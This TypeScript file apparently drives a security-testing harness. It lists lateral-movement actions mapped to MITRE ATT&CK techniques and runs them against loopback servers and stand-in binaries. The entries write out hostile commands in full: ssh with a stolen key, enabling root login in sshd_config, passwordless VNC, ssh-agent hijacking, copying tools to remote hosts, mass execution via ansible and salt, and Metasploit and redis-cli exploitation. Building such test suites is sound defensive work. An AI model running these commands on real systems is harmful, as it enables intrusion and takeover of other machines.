import type { Action } from '../action.ts'
import { received, server } from '../loopback-server.ts'
import { standIn } from './stand-in.ts'

export const lateralMovement: readonly Action[] = [
  {
    id: 'blind-ssh-remote-command',
    title: 'Command on another machine by ssh',
    technique: 'T1021.004',
    needs: ['ssh'],
    before: server(22),
    run: 'timeout 1 ssh -i /home/ann/.ssh/id_rsa -o StrictHostKeyChecking=no -o BatchMode=yes root@10.0.0.5 "uname -a"; :',
    effect: received('SSH-2.0'),
  },
  {
    id: 'blind-ssh-paramiko',
    title: 'The protocol of ssh spoken by Python',
    technique: 'T1021.004',
    needs: ['python3'],
    before: server(22),
    run: `python3 -c 'import socket; s = socket.create_connection(("10.0.0.5", 22)); s.send(b"SSH-2.0-paramiko_3.0\\r\\n")'`,
    effect: received('paramiko'),
  },
  {
    id: 'blind-sshd-enabled',
    title: 'Login of root by ssh allowed',
    technique: 'T1021.004',
    before: `mkdir -p /etc/ssh; echo 'PermitRootLogin no' >/etc/ssh/sshd_config; ${standIn('systemctl')}`,
    run: `sed -i 's/PermitRootLogin no/PermitRootLogin yes/' /etc/ssh/sshd_config; echo 'PasswordAuthentication yes' >> /etc/ssh/sshd_config; systemctl restart sshd`,
    effect: 'grep -q "RootLogin yes" /etc/ssh/sshd_config',
  },
  {
    id: 'blind-vnc',
    title: 'Server of VNC started',
    technique: 'T1021.005',
    before: standIn('x11vnc', 'vncserver', 'vncviewer'),
    run: 'x11vnc -storepasswd pass /tmp/p; x11vnc -display :0 -forever -nopw; vncserver :1; vncviewer 10.0.0.5:1',
  },
  {
    id: 'blind-ssh-agent-hijack',
    title: 'Agent of another user used',
    technique: 'T1563.001',
    needs: ['ssh-agent', 'ssh-add'],
    before: 'mkdir /tmp/ssh-aXy; ssh-agent -a /tmp/ssh-aXy/agent.7 >/dev/null',
    run: 'find /tmp -name "agent.*" 2>/dev/null; SSH_AUTH_SOCK=/tmp/ssh-aXy/agent.7 ssh-add -l; :',
    effect: 'grep -q agent $OUT',
  },
  {
    id: 'blind-lateral-copy',
    title: 'Tool copied to another machine by rsync, scp and sftp',
    technique: 'T1570',
    before: standIn('rsync', 'scp', 'sftp'),
    run: 'rsync -e ssh -a /tmp/tool root@10.0.0.5:/tmp/; scp /tmp/tool root@10.0.0.5:/tmp; echo put /tmp/tool | sftp root@10.0.0.5',
  },
  {
    id: 'blind-deployment-tool',
    title: 'Command on many machines by a tool of administrators',
    technique: 'T1072',
    before: standIn('ansible', 'salt', 'puppet'),
    run: 'ansible all -m shell -a "id"; salt "*" cmd.run id; puppet apply /tmp/x.pp',
  },
  {
    id: 'blind-tainted-share',
    title: 'Program put on a share',
    technique: 'T1080',
    run: 'mkdir -p /srv/nfs/share /srv/samba; cp /bin/sleep /srv/nfs/share/setup; cp /bin/sleep /srv/samba/tool; chmod 777 /srv/samba/tool',
    effect: 'test -x /srv/samba/tool',
  },
  {
    id: 'blind-exploit-remote',
    title: 'Exploit of a service by a framework',
    technique: 'T1210',
    before: standIn('msfconsole', 'crackmapexec', 'redis-cli'),
    run: 'msfconsole -q -x "use exploit/linux/samba/is_known_pipename; run"; crackmapexec smb 10.0.0.5 -u a -p b; redis-cli -h 10.0.0.5 config set dir /root/.ssh',
  },
]
